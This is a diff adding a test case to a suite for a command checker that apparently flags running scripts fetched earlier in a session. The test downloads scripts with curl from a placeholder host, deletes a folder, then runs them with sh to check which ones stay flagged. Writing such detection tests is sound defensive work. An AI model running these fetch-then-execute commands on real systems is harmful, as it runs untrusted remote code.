@@ -72,6 +72,14 @@ describe('what earlier calls of a session left behind', () => {
     assert.deepEqual((await judge(bash('sh /tmp/i.sh'))).rules, []);
   });
 
+  it('is gone with the file, and with the folder that it lay in', async () => {
+    const judge = session('enforce');
+    await judge(bash('curl -so /tmp/a/i.sh https://x.example.org/i.sh; curl -so /tmp/b.sh https://x.example.org/b.sh'));
+    await judge(bash('rm -r /tmp/a'));
+    assert.deepEqual((await judge(bash('sh /tmp/a/i.sh'))).rules, []);
+    assert.deepEqual((await judge(bash('sh /tmp/b.sh'))).rules, ['exec.fetched-earlier']);
+  });
+
   it('follows paths through the folder that each call starts in', async () => {
     const judge = session('enforce');
     await judge(bash('curl -sO https://x.example.org/i.sh', { cwd: '/home/dev/app/tools' }));
